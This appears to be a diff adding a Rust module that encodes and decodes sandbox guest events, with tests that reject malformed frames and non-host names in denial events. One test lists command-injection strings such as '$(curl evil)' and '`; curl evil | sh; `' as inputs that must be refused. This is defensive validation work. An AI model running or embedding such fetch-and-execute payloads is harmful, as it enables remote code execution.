@@ -1,0 +1,102 @@
+//! Events of a guest, as a child sends them while the guest runs.
+
+use super::{BadFrame, Frame, Payload, Reply};
+use crate::sandbox::guest_event::GuestEvent;
+
+/// The most bytes of an event: more than a guest can make an honest child say at once.
+const MOST: usize = 256 * 1024;
+
+pub(crate) fn encode(event: &GuestEvent<'_>) -> Vec<u8> {
+    Frame::reply(Reply::Guest).data(event).seal()
+}
+
+pub(crate) fn decode(payload: Payload<'_>) -> Result<GuestEvent<'_>, BadFrame> {
+    // Some of it is kept.
+    if payload.rest().len() > MOST {
+        return Err(BadFrame("more at once than can be told"));
+    }
+    let event = payload.data(BadFrame("an event that is none"))?;
+    // A user is told to grant the host, and copies it.
+    if let GuestEvent::Denied(denial) = &event
+        && !denial.names_a_host()
+    {
+        return Err(BadFrame("a denial of what is no host"));
+    }
+    Ok(event)
+}
+
+#[cfg(test)]
+mod tests {
+    use std::borrow::Cow;
+
+    use super::*;
+    use crate::isolation::wire::HEADER;
+    use crate::sandbox::guest_event::{Denial, Level, Stream};
+
+    #[test]
+    fn an_event_arrives_as_it_was_sent() {
+        let address = "[::1]:80".parse().unwrap();
+        for event in [
+            GuestEvent::Output { stream: Stream::Stderr, line: "é" },
+            GuestEvent::Log { level: Level::Warn, message: "" },
+            GuestEvent::Dropped { lines: 1, bytes: u64::MAX },
+            GuestEvent::Denied(Cow::Owned(Denial::Sockets)),
+            GuestEvent::Denied(Cow::Owned(Denial::Connection(address))),
+        ] {
+            assert_eq!(decode(Payload(&encode(&event)[HEADER..])), Ok(event));
+        }
+    }
+
+    #[test]
+    fn what_is_no_event_is_refused() {
+        let sent = encode(&GuestEvent::Output { stream: Stream::Stdout, line: "line" });
+        let long = encode(&GuestEvent::Log { level: Level::Info, message: &"x".repeat(MOST) });
+        for bad in [
+            &b""[..],
+            b"[[[[",
+            b"\x00\x02\x01x",
+            b"\x00\x01\xff\xff\xff\xff\x0fx",
+            b"\x00\x01\x01\xff",
+            &sent[HEADER..sent.len() - 1],
+            &[&sent[HEADER..], b"x"].concat(),
+            &long[HEADER..],
+        ] {
+            assert!(decode(Payload(bad)).is_err(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn a_denial_names_hosts_and_no_commands() {
+        let long = "a".repeat(64);
+        let much = "a.".repeat(200);
+        #[rustfmt::skip]
+        let cases = [
+            ("example.com",            true),
+            ("Example.COM.",           true),
+            ("127.0.0.1",              true),
+            ("[::1]",                  true),
+            ("",                       false),
+            ("`; curl evil | sh; `",   false),
+            ("$(curl evil)",           false),
+            ("a b",                    false),
+            ("-x",                     false),
+            ("a\nb",                   false),
+            (&long,                    false),
+            (&much,                    false),
+        ];
+        for (host, is_host) in cases {
+            let denials = [
+                Denial::Name(host.into()),
+                Denial::Request { host: host.into(), port: 1 },
+                Denial::Tls { host: host.into(), port: 1 },
+            ];
+            for denial in denials {
+                let event = GuestEvent::Denied(Cow::Owned(denial));
+                let sent = encode(&event);
+                let found = decode(Payload(&sent[HEADER..]));
+                assert_eq!(found.is_ok(), is_host, "{event:?}");
+                assert!(found.is_err() || found == Ok(event));
+            }
+        }
+    }
+}
